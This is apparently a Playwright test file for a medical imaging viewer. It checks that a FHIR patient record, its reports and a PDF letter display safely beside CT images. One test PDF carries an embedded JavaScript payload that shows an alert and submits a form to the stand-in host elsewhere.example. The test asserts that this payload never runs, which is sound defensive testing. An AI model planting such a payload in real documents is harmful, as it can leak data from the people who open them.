import { PDFDocument } from 'pdf-lib';
import type { Locator, Page } from '@playwright/test';
import { LinkRun, RecordServer } from '../../../native/contract/index.ts';
import { ctSeries, writeFiles, type GeneratedFile } from '../../generate/index.ts';
import { startFhirServer, type FhirServer } from '../../integration/fhir/server.ts';
import { recordOfPatient } from '../../peers/recordOfPatient.ts';
import { expect, test, type Lightbox } from '../app.ts';

// The record beside the images, as a reader meets it: a real FHIR server on loopback, one patient of it who is the one of the
// images and one who is not. What the record says is in recordOfPatient.ts.

const NUMBERS = 'urn:example:hospital';
const own = ctSeries({
  study: 'own',
  slices: 3,
  rows: 64,
  columns: 64,
  PatientName: 'Moonbrook^Idris',
  PatientID: 'LB-1',
});
const other = ctSeries({
  study: 'other',
  slices: 3,
  rows: 64,
  columns: 64,
  PatientName: 'Test^Generated',
  PatientID: 'LB-2',
});
const uidOf = (files: readonly GeneratedFile[]): string => files[0]?.StudyInstanceUID ?? '';

const person = (id: string, number: string, family: string, given: string, birthDate: string) => ({
  resourceType: 'Patient',
  id,
  identifier: [{ system: NUMBERS, value: number }],
  name: [{ use: 'official', family, given: [given] }],
  birthDate,
  gender: 'other',
});
const imaging = (id: string, uid: string, patient: string) => ({
  resourceType: 'ImagingStudy',
  id,
  status: 'available',
  identifier: [{ system: 'urn:dicom:uid', value: `urn:oid:${uid}` }],
  subject: { reference: `Patient/${patient}` },
  basedOn: [{ reference: 'ServiceRequest/order' }],
});

async function letter(): Promise<string> {
  const pdf = await PDFDocument.create();
  const page = pdf.addPage([400, 300]);
  page.drawRectangle({ x: 0, y: 0, width: 400, height: 300 }); // black: a page that was not drawn is white
  pdf.addJavaScript('hostile', "app.alert(1); this.submitForm('http://elsewhere.example/')"); // of no effect
  return Buffer.from(await pdf.save()).toString('base64');
}

async function begin(lightbox: Lightbox): Promise<FhirServer> {
  const { page } = lightbox;
  writeFiles(lightbox.workDirectory, [...own, ...other]);
  expect((await lightbox.importPaths([lightbox.workDirectory])).state).toBe('done');
  const server = await startFhirServer();
  await server.put(
    person('p1', 'LB-1', 'Moonbrook', 'Idris', '1970-01-01'),
    person('p2', 'LB-2', 'Quillfeather', 'Barnaby', '1994-08-30'),
    imaging('i1', uidOf(own), 'p1'),
    imaging('i2', uidOf(other), 'p2'),
    ...recordOfPatient('Patient/p1', 'ImagingStudy/i1'),
    {
      resourceType: 'DiagnosticReport',
      id: 'letter',
      status: 'final',
      code: { text: 'Discharge letter' },
      subject: { reference: 'Patient/p1' },
      effectiveDateTime: '2025-11-28',
      presentedForm: [{ contentType: 'application/pdf', data: await letter() }],
    },
  );
  const send = async (path: string, method: string, body: unknown): Promise<unknown> =>
    page.evaluate(
      async ([at, how, what]) => {
        const headers = { 'content-type': 'application/json' };
        const answer = await fetch(at, { method: how, headers, body: JSON.stringify(what) });
        return (await answer.json()) as unknown;
      },
      [path, method, body] as const,
    );
  const settings = { name: 'Hospital record', url: server.url };
  RecordServer.parse(await send('/api/records/servers', 'POST', { settings }));
  await send('/api/records/issuers', 'PUT', { patients: { '': [NUMBERS] }, accessions: [] });
  LinkRun.parse(await send('/api/records/link', 'POST', {}));
  await expect
    .poll(() =>
      page.evaluate(
        async () => ((await (await fetch('/api/records/link')).json()) as { state: string }).state,
      ),
    )
    .toBe('done');
  return server;
}

const part = (page: Page, name: string): Locator => page.locator(`[data-record-section="${name}"]`);

async function openRecord(page: Page): Promise<void> {
  await page.locator('[data-pane="0"]').focus();
  await page.keyboard.press('Shift+K');
  await page.getByRole('tab', { name: 'Record' }).click();
}

test('the record stands beside the images, and what its reports would do does not happen', async ({
  lightbox,
}) => {
  const { page } = lightbox;
  const server = await begin(lightbox);
  const asked: string[] = [];
  page.on('request', (request) => asked.push(new URL(request.url()).host));
  try {
    await lightbox.open(`/view?StudyInstanceUIDs=${uidOf(own)}`);
    await expect(page.locator('[data-pane="0"]')).toContainText('Image 1 of 3');
    await openRecord(page);
    await expect(part(page, 'patient')).toContainText('Moonbrook, Idris');
    await expect(part(page, 'allergies')).toContainText('Iohexol');
    await expect(part(page, 'allergies').locator('[data-contrast="yes"]')).toContainText('Contrast media');
    await expect(part(page, 'kidney')).toContainText('38 mL/min/1.73m2');
    await expect(part(page, 'pregnancy')).toContainText('Pregnant');
    await expect(part(page, 'orders')).toContainText('Pulmonary embolism?');
    const title = await page.title();
    await part(page, 'reports')
      .getByRole('button', { name: /CT chest/ })
      .click();
    const report = page.locator('[data-report="report"]');
    await expect(report).toContainText('No embolism.');
    await expect(report).toContainText('Follow-up in 12 months.');
    await expect(
      report.locator(
        'script, img, form, input, style, iframe, svg, math, object, link, [src], [href], [onclick], [onload], [style]',
      ),
    ).toHaveCount(0);
    await part(page, 'reports')
      .getByRole('button', { name: /Discharge letter/ })
      .click();
    await page.getByRole('button', { name: 'Open PDF' }).click();
    const drawn = page.locator('[data-page="1"]');
    await expect
      .poll(() =>
        drawn.evaluate((canvas: HTMLCanvasElement) => {
          const middle = canvas
            .getContext('2d')
            ?.getImageData(canvas.width / 2, canvas.height / 2, 1, 1).data;
          return [...(middle ?? [])];
        }),
      )
      .toEqual([0, 0, 0, 255]);
    expect(await page.title()).toBe(title);
    expect(asked.filter((host) => host.includes('elsewhere'))).toEqual([]);
  } finally {
    await server.close();
  }
});

test('a record of somebody else stops the opening until it has been judged', async ({ lightbox }) => {
  const { page } = lightbox;
  const server = await begin(lightbox);
  try {
    await lightbox.open(`/view?StudyInstanceUIDs=${uidOf(other)}`);
    const question = page.getByRole('dialog', { name: 'Is this the same person?' });
    await expect(question.getByRole('row', { name: /Name/ })).toContainText('Quillfeather');
    await expect(question.getByRole('row', { name: /Birth date/ })).toContainText('Aug 30, 1994');
    await page.keyboard.press('Escape');
    await expect(question).toBeVisible();
    await question.getByRole('button', { name: 'Not the same, hide record' }).click();
    await expect(question).toHaveCount(0);
    await openRecord(page);
    await expect(page.locator('[data-record="rejected"]')).toContainText('The record is hidden');
    await page.reload();
    await expect(page.locator('[data-pane="0"]')).toContainText('Image 1 of 3');
    await expect(question).toHaveCount(0);
  } finally {
    await server.close();
  }
});
